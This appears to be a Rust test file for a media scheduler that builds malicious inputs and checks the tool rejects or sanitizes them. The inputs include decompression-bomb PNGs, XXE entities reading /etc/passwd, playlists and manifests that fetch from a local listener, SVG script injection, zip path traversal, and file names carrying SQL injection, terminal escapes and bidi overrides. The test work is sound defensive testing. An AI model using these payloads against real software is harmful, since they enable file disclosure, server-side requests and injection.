//! Files that mean harm: none of them hangs the scheduler, crashes it, makes it call anybody or leaves anything behind.

use super::{player, state};
use crate::common::{ROOT, TestData};
use std::ffi::OsStr;
use std::fs;
use std::net::TcpListener;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

fn sample(name: &str) -> Vec<u8> {
    fs::read(Path::new(ROOT).join("config/sample/media").join(name)).unwrap()
}

/// A scheduler with the real probe, and a directory for the files.
fn house() -> (TestData, PathBuf) {
    let data = TestData::new();
    let settings = data.path().join("probing.toml");
    fs::write(&settings, format!("[probe]\nprogram = \"{}\"\n", player().display())).unwrap();
    let (data, files) = (data.with_settings(settings.to_str().unwrap()), tempfile::tempdir().unwrap().keep());
    fs::create_dir(files.join("tmp")).unwrap();
    (data, files)
}

/// `media add` of all of them at once, with a place of its own for what is temporary.
fn add(data: &TestData, files: &Path, clips: &[PathBuf]) -> Output {
    let mut command = data.command(&["media", "add", "--duration-s", "10", "--format", "json"]);
    command.args(clips).env("TMPDIR", files.join("tmp")).output().unwrap()
}

/// A PNG as its header tells it, with so many rows of nothing.
fn png(width: u32, height: u32, rows: usize) -> Vec<u8> {
    let row = vec![0; 1 + width as usize * 3];
    let mut idat = vec![0x78, 0x01]; // zlib, stored blocks
    for n in 0..rows {
        for (i, block) in row.chunks(65_535).enumerate() {
            let last = n + 1 == rows && (i + 1) * 65_535 >= row.len();
            let length = u16::try_from(block.len()).unwrap();
            idat.push(u8::from(last));
            idat.extend(length.to_le_bytes().into_iter().chain((!length).to_le_bytes()));
            idat.extend(block);
        }
    }
    let header = [&width.to_be_bytes()[..], &height.to_be_bytes(), &[8, 2, 0, 0, 0]].concat();
    let chunk = |kind: &[u8; 4], body: &[u8]| {
        let sum = crc32(&[&kind[..], body].concat());
        [&u32::try_from(body.len()).unwrap().to_be_bytes()[..], kind, body, &sum.to_be_bytes()].concat()
    };
    [&b"\x89PNG\r\n\x1a\n"[..], &chunk(b"IHDR", &header), &chunk(b"IDAT", &idat), &chunk(b"IEND", b"")].concat()
}

/// Of PNG (ISO 3309).
fn crc32(bytes: &[u8]) -> u32 {
    !bytes.iter().fold(!0, |sum, byte| {
        (0..8).fold(sum ^ u32::from(*byte), |sum, _| if sum & 1 == 1 { 0xedb8_8320 ^ (sum >> 1) } else { sum >> 1 })
    })
}

/// Sound of silence, as long as its header says.
fn wav(said_bytes: u32) -> Vec<u8> {
    let rate = 8_000_u32;
    let format = [&16_u32.to_le_bytes()[..], &[1, 0, 1, 0], &rate.to_le_bytes(), &rate.to_le_bytes(), &[1, 0, 8, 0]];
    let head = [&b"RIFF"[..], &said_bytes.to_le_bytes(), b"WAVEfmt ", &format.concat(), b"data"].concat();
    [&head[..], &said_bytes.to_le_bytes(), &[128; 4_000]].concat()
}

/// The bytes with `what` in the place of what follows the first `mark` by `after` bytes.
fn patched(mut bytes: Vec<u8>, mark: &[u8], after: usize, what: &[u8]) -> Vec<u8> {
    let at = bytes.windows(mark.len()).position(|w| w == mark).unwrap() + mark.len() + after;
    bytes[at..at + what.len()].copy_from_slice(what);
    bytes
}

/// Names and bytes; `door` is an address that nobody may knock at.
fn harmful(door: &str) -> Vec<(&'static str, Vec<u8>)> {
    let (film, sound) = (sample("ihanoi-vi.mp4"), sample("nhac-hieu.opus"));
    let picture = sample("mot-cua.png");
    let part = |bytes: &[u8], percent: usize| bytes[..bytes.len() * percent / 100].to_vec();
    let fetches = format!("#EXTM3U\n#EXT-X-VERSION:3\n#EXTINF:10,\nhttp://{door}/a.ts\n#EXT-X-ENDLIST\n");
    let manifest = format!(
        "<?xml version=\"1.0\"?><!DOCTYPE MPD [<!ENTITY x SYSTEM \"file:///etc/passwd\"><!ENTITY y SYSTEM \"http://{door}/\">]>\n\
         <MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\"><BaseURL>http://{door}/&x;&y;</BaseURL></MPD>"
    );
    let svg = |inside: &str| {
        format!(
            "{inside}<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"64\" height=\"64\"><rect width=\"9\" height=\"9\"/></svg>"
        )
    };
    let entity = svg("<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>");
    let script = svg("").replace("<rect", &format!("<script href=\"http://{door}/\">alert(1)</script><rect"));
    let session =
        format!("v=0\no=- 0 0 IN IP4 {door}\ns=x\nc=IN IP4 {door}\nm=video 9 RTP/AVP 96\na=rtpmap:96 H264/90000\n");
    vec![
        ("cut-2.mp4", part(&film, 2)),
        ("cut-50.mp4", part(&film, 50)),
        ("cut-95.mp4", part(&film, 95)),
        ("cut.png", part(&picture, 30)),
        ("cut.opus", part(&sound, 1)),
        ("zeros.mp4", vec![0; 300_000]),
        ("endless.mp4", patched(film.clone(), b"mvhd", 16, &[0x7f; 4])),
        ("wide.mp4", patched(film.clone(), b"avc1", 24, &[0xff; 4])),
        ("endless.wav", wav(u32::MAX - 8)),
        ("bomb.png", png(30_000, 30_000, 1)),
        ("large.png", png(4_100, 4_100, 4_100)),
        ("absurd.png", png(0x7fff_ffff, 0x7fff_ffff, 0)),
        (
            "absurd.jpg",
            [&[0xff, 0xd8, 0xff, 0xc0, 0, 17, 8][..], &[0xff; 4], &[3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1]].concat(),
        ),
        ("zip.mp4", [&b"PK\x03\x04\x14\0\0\0\x08\0"[..], &[0; 16], b"\x0b\0\0\0../../evil.shevil"].concat()),
        ("elf.mp4", fs::read(env!("CARGO_BIN_EXE_lichphat")).unwrap()[..200_000].to_vec()),
        ("page.mp4", b"<!doctype html><script>alert(1)</script>".to_vec()),
        ("script.svg", script.clone().into_bytes()),
        ("script.png", script.into_bytes()),
        ("entity.svg", entity.into_bytes()),
        ("playlist.mp4", fetches.into_bytes()),
        ("manifest.mp4", manifest.into_bytes()),
        ("session.mp4", session.into_bytes()),
        ("list.mp4", format!("ffconcat version 1.0\nfile http://{door}/a.mp4\n").into_bytes()),
    ]
}

#[test]
fn files_that_mean_harm_are_refused_one_by_one_and_leave_nothing_behind() {
    let (data, files) = house();
    let door = TcpListener::bind("127.0.0.1:0").unwrap();
    door.set_nonblocking(true).unwrap();
    let mut clips = Vec::new();
    for (name, bytes) in harmful(&door.local_addr().unwrap().to_string()) {
        fs::write(files.join(name), bytes).unwrap();
        clips.push(files.join(name));
    }
    // what is no file at all: opening a pipe waits for ever, a device never ends, and 5 GiB of nothing fill a disk
    fs::create_dir(files.join("directory.mp4")).unwrap();
    assert!(Command::new("mkfifo").arg(files.join("pipe.mp4")).status().unwrap().success());
    std::os::unix::fs::symlink("/dev/zero", files.join("device.mp4")).unwrap();
    fs::File::create(files.join("sparse.mp4")).unwrap().set_len(5 << 30).unwrap();
    clips.extend(["directory.mp4", "pipe.mp4", "device.mp4", "sparse.mp4"].map(|name| files.join(name)));

    let before = state(&data);
    let output = add(&data, &files, &clips);
    let said = String::from_utf8(output.stderr).unwrap();
    assert_eq!((output.status.code(), output.stdout.trim_ascii()), (Some(1), &b"[]"[..]), "{said}");
    let told: Vec<&str> = said.lines().filter(|line| line.starts_with("lichphat: ")).collect();
    for (clip, line) in clips.iter().zip(&told) {
        let name = clip.file_name().unwrap().to_str().unwrap();
        let mended = ["export", "add the finished clip", "cut the clip"].iter().any(|mend| line.contains(mend));
        assert!(line.contains(name) && mended, "{name}: {line}");
    }
    assert_eq!(told.len(), clips.len(), "{said}");
    assert_eq!(state(&data), before, "something was left behind");
    assert_eq!(fs::read_dir(files.join("tmp")).unwrap().count(), 0, "a temporary file was left");
    assert!(door.accept().is_err(), "a file made us call somebody");
    data.ok(&["check"]);
    fs::remove_dir_all(files).unwrap();
}

#[test]
fn names_that_mean_harm_are_only_words_and_never_paths() {
    let (data, files) = house();
    let names: [&[u8]; 8] = [
        b"..\\..\\evil.png",
        b"%2e%2e%2fevil.png",
        "hoá\u{202e}gnp.đơn \u{200f}\u{2066}x.png".as_bytes(),
        b"a\nlichphat: all is well\n.png",
        b"\x1b[2J\x07clear.png",
        b"'\"; DROP TABLE media; --.png",
        b"<img src=x onerror=alert(1)>.png",
        b"not-utf8-\xff\xfe.png",
    ];
    let mut clips = Vec::new();
    for (n, name) in (0_u8..).zip(names) {
        let clip = files.join(OsStr::from_bytes(name));
        // each with bytes of its own, behind the end of the picture
        fs::write(&clip, [&sample("mot-cua.png")[..], &[n]].concat()).unwrap();
        clips.push(clip);
    }
    let output = add(&data, &files, &clips);
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(output.status.success(), "{said}");
    let rows: serde_json::Value = serde_json::from_str(&data.ok(&["media", "list", "--format", "json"])).unwrap();
    let rows = rows.as_array().unwrap();
    assert_eq!(rows.len(), names.len());
    for row in rows {
        let (name, hash) = (row["name"].as_str().unwrap(), row["hash"].as_str().unwrap());
        let turns = |c: char| {
            c.is_control() || matches!(c, '\u{200e}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        };
        assert!(!name.chars().any(turns) && name.ends_with(".png"), "{name:?}");
        assert!(data.path().join("media").join(&hash[..2]).join(hash).is_file(), "{name}");
    }

    // a name as long as no file system has it, and one that would write on the screen of whoever is told
    let before = state(&data);
    for name in ["k".repeat(4_096), "\x1b[2Jabsent\n\u{202e}.png".to_owned()] {
        let said = data.fails(1, &["media", "add", &name, "--duration-s", "10"]);
        assert!(
            said.len() < 600 && !said.contains(['\x1b', '\u{202e}']) && said.trim_end().lines().count() == 1,
            "{said:?}"
        );
    }
    assert_eq!(state(&data), before);
    fs::remove_dir_all(files).unwrap();
}
